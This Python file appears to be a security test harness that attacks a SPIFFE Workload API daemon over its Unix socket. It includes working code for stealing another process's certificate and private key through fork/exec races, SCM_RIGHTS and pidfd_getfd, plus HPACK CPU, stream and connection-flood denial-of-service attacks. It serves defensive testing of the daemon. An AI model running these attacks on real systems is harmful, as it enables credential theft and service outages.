#!/usr/bin/python3
"""Hostile local clients of the Workload API socket (issue 11), standard library only.

A raw HTTP/2 gRPC client small enough to read in one sitting, and the attacks
built on it. The tests in tests/attack_*.rs copy this file next to the
daemon's socket and run it, as user `nobody` where the attack needs another
uid. Every subcommand is bounded in time, kills the processes it forked, and
ends by printing one JSON line on stdout (the tests parse the last line).

    h2attack.py fetch SOCKET [--wait]           fetch an SVID for this process
    h2attack.py fork-child-writes SOCKET        1a/1e: parent execs sleep, forked child asks
    h2attack.py fork-parent-writes SOCKET       1b: parent asks then execs, child only reads
    h2attack.py scm-rights SOCKET               1c: socket passed with SCM_RIGHTS before exec
    h2attack.py pidfd-getfd SOCKET              1d: socket taken out of sleep after exec
    h2attack.py hpack SOCKET                    2: Huffman-flagged empty fields, 4 connections
    h2attack.py streams SOCKET --n N            3: N streams on one connection
    h2attack.py flood SOCKET --n N --hold S     3: N idle connections held S seconds
    h2attack.py instance-streams SOCKET --connections C --n N
                                                3: one instance, N streams on each of C connections

What "got_svid" means: a DATA frame carried a gRPC message longer than 100
bytes. Sigil's only answer that long is an X509SVIDResponse, which holds the
certificate chain *and the private key*.
"""

import argparse
import ctypes
import errno
import json
import os
import re
import select
import signal
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
FETCH_X509 = "/SpiffeWorkloadAPI/FetchX509SVID"
EMPTY_GRPC_MESSAGE = b"\x00\x00\x00\x00\x00"
SVID_SIZED = 100  # a gRPC message longer than this is an SVID + key
SLEEP = "/usr/bin/sleep"
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438


# --- HTTP/2 and HPACK, the bytes -------------------------------------------------


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK literal header field without indexing, new name, no Huffman."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(path=FETCH_X509):
    return b"".join(
        literal(n, v)
        for n, v in [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("workload.spiffe.io", "true"),
        ]
    )


def request_bytes(stream=1, preface=True, path=FETCH_X509):
    """The whole FetchX509SVID call: preface, SETTINGS, HEADERS, DATA."""
    head = PREFACE + frame(SETTINGS, 0, 0) if preface else b""
    return (
        head
        + frame(HEADERS, END_HEADERS, stream, request_block(path))
        + frame(DATA, END_STREAM, stream, EMPTY_GRPC_MESSAGE)
    )


class Reader:
    """Reads server frames and keeps the facts the tests report."""

    def __init__(self, sock, may_write=True):
        self.sock = sock
        self.may_write = may_write
        self.buf = b""
        self.grpc = {}  # stream id -> bytes of gRPC messages not yet parsed
        self.data_bytes = 0
        self.max_message = 0
        self.got_svid = False
        self.svid_streams = set()
        self.spiffe_ids = []
        self.rst_streams = []
        self.goaway = None
        self.closed = False
        self.close_error = None
        self.ended_streams = 0
        self.frames = 0
        self.watched_done = False  # the watched stream ended or was reset
        self.watch = None

    def report(self):
        return {
            "data_bytes": self.data_bytes,
            "got_svid": self.got_svid,
            "svid_streams": len(self.svid_streams),
            "max_grpc_message": self.max_message,
            "spiffe_ids": self.spiffe_ids,
            "rst_stream_codes": sorted(set(self.rst_streams)),
            "rst_streams": len(self.rst_streams),
            "goaway": self.goaway,
            "closed": self.closed,
            "close_error": self.close_error,
            "ended_streams": self.ended_streams,
            "frames": self.frames,
        }

    def pump(self, timeout):
        """Reads what arrives within `timeout` seconds; False once closed."""
        if self.closed:
            return False
        ready, _, _ = select.select([self.sock], [], [], max(timeout, 0))
        if not ready:
            return True
        try:
            chunk = self.sock.recv(1 << 16)
        except BlockingIOError:
            return True
        except OSError as e:
            self.closed, self.close_error = True, errno.errorcode.get(e.errno, str(e))
            return False
        if not chunk:
            self.closed = True
            return False
        self.buf += chunk
        self._parse()
        return True

    def _parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            self.frames += 1
            self._on_frame(kind, flags, stream, payload)

    def _on_frame(self, kind, flags, stream, payload):
        if kind == DATA:
            self.data_bytes += len(payload)
            pending = self.grpc.get(stream, b"") + payload
            while len(pending) >= 5:
                size = int.from_bytes(pending[1:5], "big")
                self.max_message = max(self.max_message, size)
                if size > SVID_SIZED:
                    self.got_svid = True
                    self.svid_streams.add(stream)
                if len(pending) < 5 + size:
                    break
                message = pending[5 : 5 + size]
                # X509SVID.spiffe_id is field 1: tag 0x0a, a one-byte length.
                for m in re.finditer(rb"\x0a([\x01-\x7f])spiffe://", message):
                    found = message[m.start() + 2 : m.start() + 2 + m.group(1)[0]].decode(errors="replace")
                    if found not in self.spiffe_ids:
                        self.spiffe_ids.append(found)
                pending = pending[5 + size :]
            self.grpc[stream] = pending
        elif kind == HEADERS and flags & END_STREAM:
            self.ended_streams += 1
            self.watched_done |= self.watch in (None, stream)
        elif kind == RST_STREAM and len(payload) >= 4:
            self.rst_streams.append(int.from_bytes(payload[:4], "big"))
            self.watched_done |= self.watch in (None, stream)
        elif kind == GOAWAY and len(payload) >= 8:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == SETTINGS and not flags & ACK and self.may_write:
            self._send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK and self.may_write:
            self._send(frame(PING, ACK, 0, payload))

    def _send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            pass

    def read_for(self, seconds, stop_on_svid=True, watch=None):
        self.watch = watch
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if not self.pump(deadline - time.monotonic()):
                break
            if stop_on_svid and (self.got_svid or self.watched_done or self.goaway is not None):
                # Give a trailing frame (trailers, GOAWAY) a moment to arrive.
                self.pump(0.2)
                break
        return self.report()


def connect(path, timeout=5.0):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(path)
    return s


def fetch_over(sock, write=True, read_secs=4.0, may_write=True):
    """Sends the whole FetchX509SVID call (unless `write` is False) and reads the answer."""
    sock.settimeout(5.0)
    reader = Reader(sock, may_write=may_write)
    if write:
        try:
            sock.sendall(request_bytes())
        except OSError as e:  # the daemon may hang up on a thief at once
            reader.closed, reader.close_error = True, errno.errorcode.get(e.errno, str(e))
            return reader.report()
    sock.setblocking(False)
    return reader.read_for(read_secs)


# --- helpers for the process games ---------------------------------------------------


def exe_of(pid):
    try:
        return os.readlink(f"/proc/{pid}/exe")
    except OSError:
        return None


def wait_for_exe(pid, path, seconds=5.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if exe_of(pid) == path:
            return True
        time.sleep(0.005)
    return False


def put(w, **facts):
    os.write(w, (json.dumps(facts) + "\n").encode())


def guarded(w, body):
    """Runs `body` in a forked process, reporting any exception, never returning."""
    try:
        body()
    except BaseException as e:  # noqa: BLE001 - the report is the point
        try:
            put(w, error=repr(e))
        except OSError:
            pass
    os._exit(0)


def collect(r, seconds):
    """Merges the JSON lines written to pipe `r` until every writer is gone."""
    facts, buf = {}, b""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        ready, _, _ = select.select([r], [], [], deadline - time.monotonic())
        if not ready:
            facts["timed_out"] = True
            break
        chunk = os.read(r, 65536)
        if not chunk:
            break
        buf += chunk
    for line in buf.decode(errors="replace").splitlines():
        if line.strip():
            facts.update(json.loads(line))
    return facts


def reap(*pids):
    for pid in pids:
        if not pid:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass


def exec_sleep():
    os.execv(SLEEP, ["sleep", "30"])


def attack(body, seconds=20.0):
    """Forks the attacker (which becomes the SO_PEERCRED pid) and collects its reports.

    `body(w)` runs in the fork; it and its own forks report on pipe `w`,
    which every exec closes (os.pipe is close-on-exec), so `sleep` holds no
    copy and the pipe reaches EOF once the reporters are done.
    """
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        guarded(w, lambda: body(w))
    os.close(w)
    facts = collect(r, seconds)
    reap(pid, *facts.get("pids", []))
    facts["connector_pid"] = pid
    return facts


# --- section 1: identity theft ------------------------------------------------------------


def fork_child_writes(path):
    """1a/1e: connect, fork; the parent execs sleep; the child asks once it has."""

    def body(w):
        s = connect(path)
        parent = os.getpid()
        if os.fork() == 0:
            def child():
                facts = {"exec_seen": wait_for_exe(parent, SLEEP)}
                facts.update(fetch_over(s))
                put(w, **facts)
            guarded(w, child)
        exec_sleep()

    return attack(body)


def fork_parent_writes(path, junk_blocks, inheritable=False):
    """1b: the connecting process writes the whole call, then execs sleep;
    the forked child only reads. `junk_blocks` expensive header blocks on
    another stream first delay the daemon past the exec (the HPACK cost of
    section 2 makes that cheap for the attacker). With `inheritable`, sleep
    keeps its copy of the socket across the exec."""

    def body(w):
        s = connect(path)
        if inheritable:
            s.set_inheritable(True)
        parent = os.getpid()
        if os.fork() == 0:
            def child():
                facts = {"exec_seen": wait_for_exe(parent, SLEEP)}
                s.setblocking(False)
                facts.update(Reader(s, may_write=False).read_for(6.0, watch=2 * junk_blocks + 1))
                put(w, **facts)
            guarded(w, child)
        junk = b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, huffman_empty_fields(480)) for i in range(junk_blocks)
        )
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0) + junk + request_bytes(stream=2 * junk_blocks + 1, preface=False))
        except OSError:
            pass  # the child's reader reports what the daemon did
        exec_sleep()

    return attack(body)


def scm_rights(path):
    """1c: the connecting process hands the socket to its child with
    SCM_RIGHTS, then execs sleep (close-on-exec drops its own copy)."""

    def body(w):
        mine, theirs = socket.socketpair()
        parent = os.getpid()
        if os.fork() == 0:
            def child():
                mine.close()
                _, fds, _, _ = socket.recv_fds(theirs, 1, 1)
                s = socket.socket(fileno=fds[0])
                facts = {"exec_seen": wait_for_exe(parent, SLEEP)}
                facts.update(fetch_over(s))
                put(w, **facts)
            guarded(w, child)
        theirs.close()
        s = connect(path)
        socket.send_fds(mine, [b"x"], [s.fileno()])
        exec_sleep()

    return attack(body)


def pidfd_getfd(path):
    """1d: the connecting process execs sleep keeping the socket open; a
    sibling takes the socket out of sleep with pidfd_getfd afterwards."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    r, w = os.pipe()
    fd_r, fd_w = os.pipe()
    connector = os.fork()
    if connector == 0:
        os.close(r)
        os.close(fd_r)

        def body():
            s = connect(path)
            s.set_inheritable(True)
            os.write(fd_w, f"{s.fileno()}\n".encode())
            exec_sleep()

        guarded(w, body)
    os.close(fd_w)
    line = b""
    ready, _, _ = select.select([fd_r], [], [], 5.0)
    if ready:
        line = os.read(fd_r, 64)
    target_fd = int(line.strip() or b"-1")
    thief = os.fork()
    if thief == 0:
        os.close(r)

        def steal():
            facts = {"exec_seen": wait_for_exe(connector, SLEEP), "target_fd": target_fd}
            pidfd = libc.syscall(SYS_PIDFD_OPEN, connector, 0)
            if pidfd < 0:
                raise OSError(ctypes.get_errno(), "pidfd_open")
            fd = libc.syscall(SYS_PIDFD_GETFD, int(pidfd), target_fd, 0)
            if fd < 0:
                raise OSError(ctypes.get_errno(), "pidfd_getfd")
            facts["stolen"] = True
            facts.update(fetch_over(socket.socket(fileno=int(fd))))
            put(w, **facts)

        guarded(w, steal)
    os.close(w)
    facts = collect(r, 20.0)
    reap(thief, connector)
    facts["connector_pid"] = connector
    return facts


def fetch(path, wait):
    """The control: this very process asks for its own SVID (once a line
    arrives on stdin, with --wait)."""
    if wait:
        sys.stdin.readline()
    s = connect(path)
    facts = fetch_over(s)
    facts["connector_pid"] = os.getpid()
    return facts


def fetch_hold(path):
    """An ordinary agent: asks for its own SVID, prints the report at once,
    then keeps running until a line arrives on stdin (the test's cue to
    exit)."""
    s = connect(path)
    facts = fetch_over(s, read_secs=1.0)
    facts["connector_pid"] = os.getpid()
    facts["attack"] = "fetch-hold"
    print(json.dumps(facts), flush=True)
    sys.stdin.readline()
    return facts


def bulk(path, megabytes):
    """Sends `megabytes` MiB of frames of an unknown type (which HTTP/2 says
    to ignore, so they cost the daemon only its reading) and then a PING, and
    reports how long the daemon took to answer the PING: how fast it reads
    this uid's bytes."""
    s = connect(path, timeout=120.0)
    junk = frame(0xEE, 0, 0, b"x" * 16384)
    started = time.monotonic()
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    for _ in range(megabytes * 64):
        s.sendall(junk)
    s.sendall(frame(PING, 0, 0, b"sigil-ok"))
    buf = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            return {"closed": True, "seconds": time.monotonic() - started}
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags, payload = buf[3], buf[4], buf[9 : 9 + length]
            buf = buf[9 + length :]
            if kind == PING and flags & ACK and payload == b"sigil-ok":
                return {"pong": True, "seconds": round(time.monotonic() - started, 3), "mib": megabytes}


# --- section 2: HPACK CPU -------------------------------------------------------------


def huffman_empty_fields(count):
    """A header block of `count` literal fields without indexing whose name
    and value are both empty, Huffman-flagged (0x00 0x80 0x80 each)."""
    return b"\x00\x80\x80" * count


def hpack_flood(path, connections, seconds, fields):
    block = huffman_empty_fields(fields)
    stop = time.monotonic() + seconds
    totals = {"bytes_sent": 0, "blocks_sent": 0, "connections_opened": 0, "closed_by_daemon": 0, "goaways": 0}
    lock = threading.Lock()

    def one():
        sent = blocks = opened = closed = goaways = 0
        while time.monotonic() < stop:
            try:
                s = connect(path)
            except OSError:
                time.sleep(0.05)
                continue
            opened += 1
            s.setblocking(False)
            reader = Reader(s)
            out = PREFACE + frame(SETTINGS, 0, 0)
            stream = 1
            while time.monotonic() < stop and not reader.closed:
                if not out:
                    batch = []
                    for _ in range(8):
                        batch.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                        stream += 2
                    out = b"".join(batch)
                    blocks += 8
                _, writable, _ = select.select([], [s], [], 0.05)
                if writable:
                    try:
                        n = s.send(out)
                        sent += n
                        out = out[n:]
                    except BlockingIOError:
                        pass
                    except OSError:
                        reader.closed = True
                reader.pump(0)
            if reader.closed:
                closed += 1
            if reader.goaway is not None:
                goaways += 1
            s.close()
        with lock:
            totals["bytes_sent"] += sent
            totals["blocks_sent"] += blocks
            totals["connections_opened"] += opened
            totals["closed_by_daemon"] += closed
            totals["goaways"] += goaways

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 10)
    totals["seconds"] = seconds
    totals["block_bytes"] = len(block) + 9
    return totals


# --- section 3: streams and connections ---------------------------------------------------


def many_streams(path, count, seconds):
    """Opens `count` FetchX509SVID streams on one connection, reading only to
    keep the socket moving (no WINDOW_UPDATE: the daemon must buffer), then
    waits for "close" on stdin before hanging up."""
    s = connect(path)
    s.setblocking(False)
    reader = Reader(s)
    stop = time.monotonic() + seconds
    pending = PREFACE + frame(SETTINGS, 0, 0)
    opened = sent = 0
    per_stream = request_block()
    while time.monotonic() < stop and not reader.closed and (opened < count or pending):
        if not pending:
            batch = []
            for _ in range(min(256, count - opened)):
                sid = 2 * opened + 1
                batch.append(frame(HEADERS, END_HEADERS, sid, per_stream) + frame(DATA, END_STREAM, sid, EMPTY_GRPC_MESSAGE))
                opened += 1
            pending = b"".join(batch)
        _, writable, _ = select.select([], [s], [], 0.05)
        if writable:
            try:
                n = s.send(pending)
                sent += n
                pending = pending[n:]
            except BlockingIOError:
                pass
            except OSError:
                reader.closed = True
        reader.pump(0)
    # Let the daemon catch up: wait for its answers to go quiet.
    quiet_since = time.monotonic()
    frames = reader.frames
    while time.monotonic() < stop and not reader.closed and time.monotonic() - quiet_since < 2.0:
        reader.pump(0.2)
        if reader.frames != frames:
            frames, quiet_since = reader.frames, time.monotonic()
    facts = {"streams_opened": opened, "bytes_sent": sent, "send_seconds": round(seconds - (stop - time.monotonic()), 2)}
    facts.update(reader.report())
    print(json.dumps(dict(facts, phase="open")), flush=True)
    # Hold the connection until told to close (or 60 s), still draining.
    wait_until = time.monotonic() + 60
    while time.monotonic() < wait_until:
        ready, _, _ = select.select([sys.stdin], [], [], 0.2)
        if ready:
            sys.stdin.readline()
            break
        reader.pump(0)
    s.close()
    facts.update(reader.report())
    facts["phase"] = "closed"
    return facts


def instance_streams(path, connections, per_connection, seconds):
    """One process (one instance) opens `per_connection` FetchX509SVID
    streams on each of `connections` connections, and counts the streams
    that were answered with an SVID."""
    readers = []
    for _ in range(connections):
        s = connect(path)
        calls = b"".join(request_bytes(stream=2 * i + 1, preface=False) for i in range(per_connection))
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0) + calls)
        except OSError:
            pass
        s.setblocking(False)
        readers.append(Reader(s))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not all(r.closed for r in readers):
        for r in readers:
            r.pump(0.01)
    reports = [r.report() for r in readers]
    return {
        "connections": connections,
        "streams_asked": connections * per_connection,
        "svid_streams": sum(r["svid_streams"] for r in reports),
        "rst_streams": sum(r["rst_streams"] for r in reports),
        "ended_streams": sum(r["ended_streams"] for r in reports),
        "goaways": sum(1 for r in reports if r["goaway"] is not None),
    }


def flood(path, count, hold):
    """Opens `count` connections (preface + SETTINGS each), says so, then holds
    them `hold` seconds and reports how many the daemon closed, and when."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:  # the test may have lowered the limit it passed on
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    conns = []
    connect_errors = 0
    closed_after = {}  # fd -> seconds from connect to the daemon hanging up
    for _ in range(count):
        try:
            s = connect(path, timeout=2.0)
        except OSError:
            connect_errors += 1
            continue
        opened_at = time.monotonic()
        conns.append((s, opened_at))
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        except OSError:  # closed by the daemon already
            closed_after[s.fileno()] = time.monotonic() - opened_at
        s.setblocking(False)
    print(json.dumps({"phase": "opened", "opened": len(conns), "connect_errors": connect_errors}), flush=True)
    by_fd = {s.fileno(): (s, t) for s, t in conns}
    poller = select.poll()  # not select(): fds may pass FD_SETSIZE
    for fd in by_fd:
        if fd not in closed_after:
            poller.register(fd, select.POLLIN)
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline and len(closed_after) < len(conns):
        for fd, _ in poller.poll(100):
            s, opened_at = by_fd[fd]
            try:
                chunk = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                closed_after[fd] = time.monotonic() - opened_at
                poller.unregister(fd)
    times = sorted(closed_after.values())
    for s, _ in conns:
        s.close()
    return {
        "phase": "done",
        "opened": len(conns),
        "connect_errors": connect_errors,
        "closed": len(times),
        "closed_within_3s": sum(1 for t in times if t <= 3.0),
        "close_times": [round(t, 3) for t in times[:5]] + ([round(times[-1], 3)] if times else []),
    }


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack")
    p.add_argument("socket")
    p.add_argument("--n", type=int, default=100)
    p.add_argument("--secs", type=float, default=6.0)
    p.add_argument("--hold", type=float, default=8.0)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--fields", type=int, default=480)
    p.add_argument("--junk-blocks", type=int, default=0)
    p.add_argument("--wait", action="store_true", help="fetch: wait for a line on stdin first")
    p.add_argument("--inheritable", action="store_true", help="fork-parent-writes: sleep keeps the socket")
    a = p.parse_args()
    run = {
        "fetch": lambda: fetch(a.socket, a.wait),
        "fork-child-writes": lambda: fork_child_writes(a.socket),
        "fork-parent-writes": lambda: fork_parent_writes(a.socket, a.junk_blocks, a.inheritable),
        "scm-rights": lambda: scm_rights(a.socket),
        "fetch-hold": lambda: fetch_hold(a.socket),
        "bulk": lambda: bulk(a.socket, a.n),
        "pidfd-getfd": lambda: pidfd_getfd(a.socket),
        "hpack": lambda: hpack_flood(a.socket, a.connections, a.secs, a.fields),
        "streams": lambda: many_streams(a.socket, a.n, a.secs),
        "flood": lambda: flood(a.socket, a.n, a.hold),
        "instance-streams": lambda: instance_streams(a.socket, a.connections, a.n, a.secs),
    }[a.attack]
    facts = run()
    facts["attack"] = a.attack
    facts["uid"] = os.getuid()
    print(json.dumps(facts), flush=True)


if __name__ == "__main__":
    main()
